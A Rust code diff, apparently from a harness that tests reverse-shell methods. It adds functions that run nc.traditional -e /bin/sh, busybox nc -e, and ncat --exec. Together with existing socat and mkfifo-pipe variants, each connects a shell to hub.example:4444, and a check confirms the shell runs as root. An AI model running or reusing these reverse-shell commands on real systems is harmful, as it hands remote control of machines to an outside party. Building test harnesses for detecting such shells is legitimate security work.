@@ -17,8 +17,10 @@ const TIMEOUT: Duration = Duration::from_secs(10);
 /// Longer than a shell takes to show its prompt, so that each line is one exchange.
 const PACE: Duration = Duration::from_millis(300);
 /// What is typed, and what shows that it was run.
-const LINES: [(&str, &str); 3] = [
+const LINES: [(&str, &str); 5] = [
+    ("id -u\n", "0"),
     ("cd /tmp\n", ""),
+    ("cat /proc/self/comm\n", "cat"),
     ("echo answer-$((6 * 7))\n", "answer-42"),
     ("echo over-$((40 + 2))\n", "over-42"),
 ];
@@ -62,7 +64,25 @@ pub(super) fn socat_pty(agent: &Agent) -> Result<Outcome> {
     operate(agent, &["socat", "TCP:hub.example:4444", shell])
 }
 
-/// As with nc, which cannot start a program in all of its versions.
+/// The shell takes nc's place.
+pub(super) fn nc(agent: &Agent) -> Result<Outcome> {
+    operate(
+        agent,
+        &["nc.traditional", "-e", "/bin/sh", "hub.example", "4444"],
+    )
+}
+
+pub(super) fn busybox(agent: &Agent) -> Result<Outcome> {
+    let argv = ["busybox", "nc", "hub.example", "4444", "-e", "/bin/sh"];
+    operate(agent, &argv)
+}
+
+/// The shell, which is not interactive, is between two pipes of ncat's.
+pub(super) fn ncat(agent: &Agent) -> Result<Outcome> {
+    operate(agent, &["ncat", "--exec", "/bin/sh", "hub.example", "4444"])
+}
+
+/// As with an nc that cannot start a program.
 pub(super) fn pipes(agent: &Agent) -> Result<Outcome> {
     let script = "rm -f /tmp/f; mkfifo /tmp/f; \
         cat /tmp/f | /bin/sh -i 2>&1 | socat - TCP:hub.example:4444 > /tmp/f";
